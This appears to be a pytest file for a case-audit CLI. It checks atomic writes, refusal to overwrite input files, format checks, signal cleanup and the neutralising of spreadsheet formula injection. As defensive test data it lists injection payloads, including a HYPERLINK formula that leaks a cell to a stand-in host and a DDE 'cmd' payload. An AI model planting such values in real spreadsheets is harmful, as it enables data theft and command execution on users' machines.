"""Safe outputs: atomic writes, never over an input file, no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import stat
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from casecheck import outputs
from casecheck.cli import app
from casecheck.errors import UsageError
from casecheck.report import atomic_write, defuse, write_frame

FIXTURES = Path(__file__).parent / "fixtures" / "malformed"
FORMULA_CASE = FIXTURES / "cases" / "formula_like_values"
AS_AT = ["--as-at", "2025-03-31"]
#: what a spreadsheet may run: a formula sign, perhaps after blanks, or a leading control character
DANGEROUS = re.compile(r"^(?:[\s\x00]*[=+\-@＝＋－＠]|[\t\r\n\x00])")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


# ---------------------------------------------------------------------------------------------
# Atomic writes
# ---------------------------------------------------------------------------------------------
def _previous(tmp_path: Path) -> Path:
    target = tmp_path / "findings.csv"
    target.write_bytes(b"last month's findings\n")
    return target


@pytest.mark.parametrize(
    ("failure", "raised"),
    [
        (RuntimeError("polars failed half way"), RuntimeError),
        (KeyboardInterrupt(), KeyboardInterrupt),
        (OSError(errno.ENOSPC, "No space left on device"), UsageError),
    ],
)
def test_a_failure_mid_write_leaves_the_previous_file_and_no_temp_file(tmp_path, failure, raised):
    target = _previous(tmp_path)

    def write(tmp: Path) -> None:
        tmp.write_bytes(b"rule_id,child_id\nvisits-cp,00")  # half a file...
        raise failure

    with pytest.raises(raised) as info:
        atomic_write(target, write)
    assert target.read_bytes() == b"last month's findings\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["findings.csv"]
    if raised is UsageError:
        assert str(info.value) == f"cannot write {target}: No space left on device"


def test_the_target_is_only_replaced_once_the_new_file_is_complete(tmp_path):
    target = _previous(tmp_path)
    seen = {}

    def write(tmp: Path) -> None:
        seen["tmp"] = tmp
        seen["target_during_write"] = target.read_bytes()
        tmp.write_bytes(b"new\n")

    atomic_write(target, write)
    assert seen["target_during_write"] == b"last month's findings\n"
    assert seen["tmp"].parent == tmp_path and seen["tmp"].name.startswith(".findings.csv.")
    assert target.read_bytes() == b"new\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["findings.csv"]


def test_a_replaced_file_keeps_its_mode_and_a_new_one_follows_the_umask(tmp_path):
    target = _previous(tmp_path)
    target.chmod(0o640)
    atomic_write(target, lambda p: p.write_bytes(b"x"))
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    old = os.umask(0o027)
    try:
        fresh = tmp_path / "fresh.csv"
        atomic_write(fresh, lambda p: p.write_bytes(b"x"))
    finally:
        os.umask(old)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o640


def test_writing_to_a_folder_or_a_missing_folder_is_a_usage_error(tmp_path):
    with pytest.raises(UsageError, match="it is a folder"):
        atomic_write(tmp_path, lambda p: p.write_bytes(b"x"))
    with pytest.raises(UsageError, match="does not exist"):
        atomic_write(tmp_path / "no" / "f.csv", lambda p: p.write_bytes(b"x"))
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_cannot_be_written_is_a_usage_error(tmp_path, monkeypatch):
    def refuse(**kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(outputs.tempfile, "mkstemp", refuse)
    with pytest.raises(UsageError, match=r"cannot write .*f\.csv: Permission denied"):
        atomic_write(tmp_path / "f.csv", lambda p: p.write_bytes(b"x"))


def test_cli_output_to_a_folder_is_one_line_exit_2(tmp_path):
    data = _tiny(tmp_path)
    r = CliRunner().invoke(app, ["audit", str(data), "-s", "redcar-cleveland", *AS_AT,
                                 "--format", "csv", "--output", str(tmp_path)])
    assert r.exit_code == 2, r.output
    assert r.stderr.strip() == f"casecheck: error: cannot write {tmp_path}: it is a folder; give a file name"


# ---------------------------------------------------------------------------------------------
# Never over an input file, however the path is spelled, whichever option names it
# ---------------------------------------------------------------------------------------------
def _tiny(tmp_path: Path) -> Path:
    data = tmp_path / "extract"
    shutil.copytree(FIXTURES / "cases" / "stray_quote_in_value", data)
    return data


def _spell(how: str, data: Path, tmp_path: Path, monkeypatch) -> str:
    target = data / "visits.csv"
    if how == "same":
        return str(target)
    if how == "dotdot":
        (data / "sub").mkdir()
        return str(data / "sub" / ".." / ".." / data.name / "visits.csv")
    if how == "symlink":
        link = tmp_path / "link.csv"
        link.symlink_to(target)
        return str(link)
    if how == "symlinked_folder":
        (tmp_path / "alias").symlink_to(data, target_is_directory=True)
        return str(tmp_path / "alias" / "visits.csv")
    if how == "hardlink":
        link = tmp_path / "hard.csv"
        os.link(target, link)
        return str(link)
    if how == "relative":
        monkeypatch.chdir(data)
        return "./visits.csv"
    raise AssertionError(how)


OUTPUTS = {
    "audit --output": ["audit", "{data}", "-s", "redcar-cleveland", *AS_AT, "--format", "csv", "--output", "{out}"],
    "audit --summary-output": ["audit", "{data}", "-s", "redcar-cleveland", *AS_AT, "--summary-output", "{out}"],
    "audit --xlsx": ["audit", "{data}", "-s", "redcar-cleveland", *AS_AT, "--xlsx", "{out}"],
    "validate --issues": ["validate", "{data}", *AS_AT, "--issues", "{out}"],
    "due --output": ["due", "{data}", "-s", "redcar-cleveland", *AS_AT, "--output", "{out}"],
    "trend --output": ["trend", "{data}", "-s", "redcar-cleveland", "--from", "2025-01", "--to", "2025-03", "--output", "{out}"],
    "trend --xlsx": ["trend", "{data}", "-s", "redcar-cleveland", "--from", "2025-01", "--to", "2025-03", "--xlsx", "{out}"],
}  # fmt: skip


SPELLINGS = ["same", "dotdot", "symlink", "symlinked_folder", "hardlink", "relative"]
# every spelling for the findings file; two odd spellings for every other output option
CASES = [("audit --output", how) for how in SPELLINGS] + [
    (option, how) for option in list(OUTPUTS)[1:] for how in ("dotdot", "symlink")
]


@pytest.mark.parametrize(("option", "how"), CASES)
def test_refuses_to_write_over_an_input_file(tmp_path, monkeypatch, option, how):
    data = _tiny(tmp_path)
    before = {p.name: p.read_bytes() for p in data.iterdir()}
    out = _spell(how, data, tmp_path, monkeypatch)
    args = [a.format(data=data, out=out) for a in OUTPUTS[option]]
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 2, (option, how, r.output)
    lines = r.stderr.strip().splitlines()
    assert lines == [f"casecheck: error: refusing to write over the input file {Path(out)}"]
    assert "Traceback" not in r.output
    assert {p.name: p.read_bytes() for p in data.iterdir() if p.is_file()} == before
    assert not [p for p in data.rglob(".*.tmp")]


def test_refuses_to_write_over_the_workbook_it_reads(tmp_path):
    book = tmp_path / "extract.xlsx"
    shutil.copyfile(FIXTURES / "variants" / "xlsx_workbook" / "extract.xlsx", book)
    before = book.read_bytes()
    for option in ("--output", "--summary-output"):
        r = CliRunner().invoke(app, ["audit", str(book), "-s", "redcar-cleveland", *AS_AT,
                                     "--format", "csv", option, str(tmp_path / "." / "extract.xlsx")])
        assert r.exit_code == 2, r.output
        assert "refusing to write over the input file" in r.stderr
    assert book.read_bytes() == before


def test_refuses_to_write_over_the_profile_it_reads(tmp_path):
    data = _tiny(tmp_path)
    profile = tmp_path / "mine.toml"
    shutil.copyfile(Path(__file__).parents[1] / "standards" / "torbay.toml", profile)
    r = CliRunner().invoke(app, ["audit", str(data), "-s", str(profile), *AS_AT,
                                 "--format", "csv", "--output", str(profile)])
    assert r.exit_code == 2
    assert profile.read_text().startswith("#")


# ---------------------------------------------------------------------------------------------
# No cell a spreadsheet would run as a formula
# ---------------------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1", "\x00=1", " =1+1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
]  # fmt: skip
SAFE = ["Team A", "0001001", "2025-03-04", "a=b", "W-01", "Point in time: last visit", "", "'=1"]


def test_defuse_prefixes_every_formula_and_nothing_else():
    frame = pl.DataFrame({"v": FORMULAS + SAFE + [None], "n": list(range(len(FORMULAS + SAFE) + 1))})
    out = defuse(frame)
    assert out["v"].to_list() == ["'" + v for v in FORMULAS] + SAFE + [None]
    assert out["n"].to_list() == frame["n"].to_list()  # numbers are numbers
    assert not any(DANGEROUS.match(v) for v in out["v"].drop_nulls())


def _cells_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _cells_json(text: str) -> list[str]:
    return [v for row in json.loads(text) for v in row.values() if isinstance(v, str)]


@pytest.fixture(scope="module")
def formula_outputs(tmp_path_factory) -> dict[str, list[str]]:
    """Every text cell casecheck writes for an extract whose ids and teams are formulas."""
    tmp = tmp_path_factory.mktemp("formulas")
    runner = CliRunner()
    base = ["audit", str(FORMULA_CASE), "-s", "redcar-cleveland", *AS_AT]
    cells: dict[str, list[str]] = {}
    r = runner.invoke(app, [*base, "--format", "csv", "--summary-output", str(tmp / "s.json")])
    assert r.exit_code == 0, r.output
    cells["findings csv"] = _cells_csv(r.stdout)
    cells["summary json"] = _cells_json((tmp / "s.json").read_text())
    r = runner.invoke(app, [*base, "--format", "json"])
    assert r.exit_code == 0, r.output
    cells["findings json"] = _cells_json(r.stdout)
    r = runner.invoke(app, [*base, "--format", "parquet", "--output", str(tmp / "f.parquet"), "-q"])
    assert r.exit_code == 0, r.output
    f = pl.read_parquet(tmp / "f.parquet")
    cells["findings parquet"] = [v for c in f.columns if f.schema[c] == pl.String for v in f[c].drop_nulls()]
    r = runner.invoke(app, ["validate", str(FORMULA_CASE), *AS_AT, "--issues", str(tmp / "i.csv")])
    assert r.exit_code == 0, r.output
    cells["issues csv"] = _cells_csv((tmp / "i.csv").read_text())
    r = runner.invoke(app, ["due", str(FORMULA_CASE), "-s", "redcar-cleveland", *AS_AT, "--within", "3mo",
                            "--format", "csv"])
    assert r.exit_code == 0, r.output
    cells["due csv"] = _cells_csv(r.stdout)
    return cells


@pytest.mark.parametrize(
    "output", ["findings csv", "findings json", "findings parquet", "summary json", "issues csv", "due csv"]
)
def test_no_output_cell_is_a_formula(formula_outputs, output):
    cells = formula_outputs[output]
    if output != "summary json":  # the summary holds rule ids and titles, no input values
        assert any(c.startswith("'") for c in cells), "the formula-like values should be in it"
    # a number such as -2 (working days overdue) is a number, not a formula
    assert [c for c in cells if DANGEROUS.match(c) and not NUMBER.match(c)] == []


def test_defused_ids_keep_their_value_after_the_quote(formula_outputs):
    ids = {c[1:] for c in formula_outputs["findings csv"] if c.startswith("'")}
    assert '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")' in ids
    assert {"+1", "-2", "@SUM(A1:A9)", "=1+1", "＝1+1"} <= ids


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_the_audit_workbook_holds_no_formula(tmp_path):
    book = tmp_path / "audit.xlsx"
    r = CliRunner().invoke(app, ["audit", str(FORMULA_CASE), "-s", "redcar-cleveland", *AS_AT,
                                 "--xlsx", str(book), "-q"])
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(book)
    kinds = {cell.data_type for ws in wb for row in ws.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("=HYPERLINK") for t in texts)  # kept as text, not run


def test_write_frame_defuses_csv_json_and_parquet(tmp_path):
    frame = pl.DataFrame({"child_id": FORMULAS, "days": list(range(len(FORMULAS)))})
    for fmt in ("csv", "json", "parquet"):
        path = tmp_path / f"out.{fmt}"
        write_frame(frame, path, fmt)
        if fmt == "csv":
            cells = _cells_csv(path.read_text())
        elif fmt == "json":
            cells = _cells_json(path.read_text())
        else:
            cells = pl.read_parquet(path)["child_id"].to_list()
        assert [c for c in cells if DANGEROUS.match(c)] == [], fmt


# ---------------------------------------------------------------------------------------------
# Issue 11: every file of the extract folder, chunked or not; one path, one output; the name
# says the format; devices in place; full disks and size limits; nothing left behind
# ---------------------------------------------------------------------------------------------
CLEAN = FIXTURES / "clean"


def _extract(tmp_path: Path) -> Path:
    data = tmp_path / "extract"
    shutil.copytree(CLEAN, data)
    (data / "README.txt").write_text("notes about this extract\n")
    return data


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


@pytest.mark.parametrize(
    ("target", "extra"),
    [
        ("supervisions.csv", ["--rules", "visits-cp"]),  # a table this run does not read
        ("visits.csv", ["--chunks", "2"]),  # a chunked run
        ("README.txt", []),  # not a table at all, but a file of the extract
    ],
)
def test_no_file_of_the_extract_folder_is_ever_written_over(tmp_path, target, extra):
    data = _extract(tmp_path)
    before = _snapshot(data)
    r = CliRunner().invoke(app, ["audit", str(data), "-s", "redcar-cleveland", *AS_AT, "-o",
                                 str(data / target), *extra])
    assert r.exit_code == 2, r.output
    assert r.stderr.strip() == f"casecheck: error: refusing to write over the input file {data / target}"
    assert _snapshot(data) == before


def test_a_new_table_file_in_the_extract_folder_is_refused_other_names_are_not(tmp_path):
    data = _extract(tmp_path)
    r = CliRunner().invoke(app, ["audit", str(data), "-s", "redcar-cleveland", *AS_AT, "-o",
                                 str(data / "Visits.parquet")])
    assert r.exit_code == 2 and "a later run would read it as a table" in r.stderr
    r = CliRunner().invoke(app, ["audit", str(data), "-s", "redcar-cleveland", *AS_AT, "-o",
                                 str(data / "findings.csv"), "--quiet"])
    assert r.exit_code == 0 and (data / "findings.csv").exists()


@pytest.mark.parametrize("other", ["--summary-output", "--xlsx"])
def test_two_outputs_at_one_path_are_refused(tmp_path, other):
    data = _extract(tmp_path)
    out = tmp_path / ("same.xlsx" if other == "--xlsx" else "same.csv")
    args = ["audit", str(data), "-s", "redcar-cleveland", *AS_AT, "-o", str(out), other,
            str(tmp_path / "." / out.name)]
    if other == "--xlsx":
        args[6:8] = ["--format", "csv", "-o", str(out)][2:]
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 2
    assert "both name" in r.stderr or "the name says xlsx" in r.stderr
    assert not out.exists()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["audit", "-o", "findings.xlsx"], "for the audit workbook give --xlsx findings.xlsx"),
        (["audit", "-f", "json", "-o", "findings.csv"], "the name says csv but casecheck would write json"),
        (["audit", "--summary-output", "s.xlsx"], "the name says xlsx"),
        (["audit", "--xlsx", "book.csv"], "--xlsx book.csv: the name says csv but casecheck would write xlsx"),
        (["due", "-f", "json", "-o", "due.csv"], "the name says csv but casecheck would write json"),
        (["validate", "--issues", "issues.json"], "--issues issues.json: the name says json"),
    ],
)  # fmt: skip
def test_an_extension_that_names_another_format_is_refused(tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    command, *rest = args
    profile = [] if command == "validate" else ["-s", "redcar-cleveland"]
    r = CliRunner().invoke(app, [command, str(CLEAN), *profile, *AS_AT, *rest])
    assert r.exit_code == 2 and message in r.stderr, r.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "option", [["-f", "csv", "-o"], ["-o"], ["--xlsx"], ["--summary-output"], ["-f", "json", "-o"]],
    ids=["csv", "parquet", "xlsx", "summary", "json"],
)
def test_a_full_disk_is_one_line_for_every_format(option):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    args = ["audit", str(CLEAN), "-s", "redcar-cleveland", *AS_AT, "--quiet", *option, "/dev/full"]
    if option == ["-o"]:
        args[-2:] = ["-f", "parquet", "-o", "/dev/full"]
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 2, r.output
    assert r.stderr.strip() == "casecheck: error: cannot write /dev/full: No space left on device"


_LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
from casecheck.cli import main
sys.argv = ["casecheck", *sys.argv[1:]]
main()
"""


@pytest.mark.slow
@pytest.mark.parametrize("option", [["-o", "f.parquet"], ["--xlsx", "a.xlsx"], ["-f", "csv", "-o", "f.csv"],
                                    ["--chunks", "2", "-o", "f.csv"]], ids=["parquet", "xlsx", "csv", "chunked"])
def test_a_file_size_limit_is_one_line_and_leaves_nothing(tmp_path, option):
    import subprocess
    import sys

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", _LIMITED, "audit", str(CLEAN), "-s", "redcar-cleveland", *AS_AT, "--quiet",
         *option], cwd=out, capture_output=True, text=True, env={**os.environ, "TMPDIR": str(scratch)},
        timeout=300,
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().endswith(": File too large"), done.stderr
    assert list(out.iterdir()) == [] and list(scratch.iterdir()) == []


def test_a_fifo_is_written_in_place(tmp_path):
    import threading

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    r = CliRunner().invoke(app, ["audit", str(CLEAN), "-s", "redcar-cleveland", *AS_AT, "-f", "csv", "-o",
                                 str(fifo), "--quiet"])
    reader.join(timeout=60)
    assert r.exit_code == 0, r.output
    assert stat.S_ISFIFO(fifo.stat().st_mode)  # still a FIFO, not replaced by a file
    assert got and got[0].startswith(b"rule_id,child_id,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe.csv"]


def test_the_workbook_leaves_no_temporary_file_anywhere(tmp_path, monkeypatch):
    import tempfile

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    out = tmp_path / "out"
    out.mkdir()
    calls = []
    original = __import__("xlsxwriter").Workbook.__init__

    def spy(self, filename=None, options=None):
        calls.append(dict(options or {}))
        original(self, filename, options)

    monkeypatch.setattr("xlsxwriter.Workbook.__init__", spy)
    r = CliRunner().invoke(app, ["audit", str(CLEAN), "-s", "redcar-cleveland", *AS_AT, "--xlsx",
                                 str(out / "a.xlsx"), "--quiet"])
    assert r.exit_code == 0, r.output
    assert calls and Path(calls[0]["tmpdir"]).parent == out  # its own files beside the target
    assert sorted(p.name for p in out.iterdir()) == ["a.xlsx"] and list(scratch.iterdir()) == []


@pytest.fixture(scope="module")
def big_extract(tmp_path_factory) -> Path:
    """A sample large enough to stop mid-write (4,000 children, four years): only read, so made
    once for both signals' tests."""
    data = tmp_path_factory.mktemp("big") / "big"
    r = CliRunner().invoke(app, ["sample", str(data), "--children", "4000", "--seed", "3", "--as-at",
                                 "2025-03-31", "--years", "4", "--quiet"])
    assert r.exit_code == 0
    return data


@pytest.mark.slow
@pytest.mark.parametrize("what", ["chunked", "xlsx"])
def test_sigterm_leaves_no_partial_file_and_no_temporary_copy(tmp_path, what, big_extract):
    import signal
    import subprocess
    import sys
    import time

    data = big_extract
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "f.csv").write_bytes(b"last month\n")
    option = ["--chunks", "4", "-o", "f.csv"] if what == "chunked" else ["--xlsx", "a.xlsx", "-o", "f.csv"]
    code = "import sys; from casecheck.cli import main; sys.argv = ['casecheck', *sys.argv[1:]]; main()"
    proc = subprocess.Popen([sys.executable, "-c", code, "audit", str(data), "-s", "redcar-cleveland", *AS_AT,
                             *option], cwd=out, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "TMPDIR": str(scratch)})
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:  # wait for work in progress
        if list(scratch.iterdir()) or [p for p in out.iterdir() if p.name.startswith(".")]:
            break
        time.sleep(0.02)
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=120)
    assert proc.returncode in (143, 0), proc.stderr.read()
    assert list(scratch.iterdir()) == []
    assert [p.name for p in out.iterdir() if p.name != "a.xlsx"] == ["f.csv"]
    if proc.returncode == 143:
        assert (out / "f.csv").read_bytes() == b"last month\n"


def test_a_sigterm_while_a_temporary_folder_is_made_or_removed_waits_for_it(tmp_path, monkeypatch):
    # The race the SIGTERM tests met once: the signal between making the temporary folder and
    # knowing it (or during its removal) left '.casecheck-...' beside the output. The signal is
    # now held until the folder is known (then it is removed) or wholly removed.
    import signal
    import tempfile as tf

    from casecheck.outputs import Terminated, on_sigterm, scratch_dir

    real = tf.mkdtemp

    def made_then_signalled(*args, **kwargs):
        name = real(*args, **kwargs)
        on_sigterm(signal.SIGTERM, None)  # arrives just after the folder was made
        return name

    monkeypatch.setattr(tf, "mkdtemp", made_then_signalled)
    with pytest.raises(Terminated), scratch_dir(tmp_path):
        pass
    assert list(tmp_path.iterdir()) == []
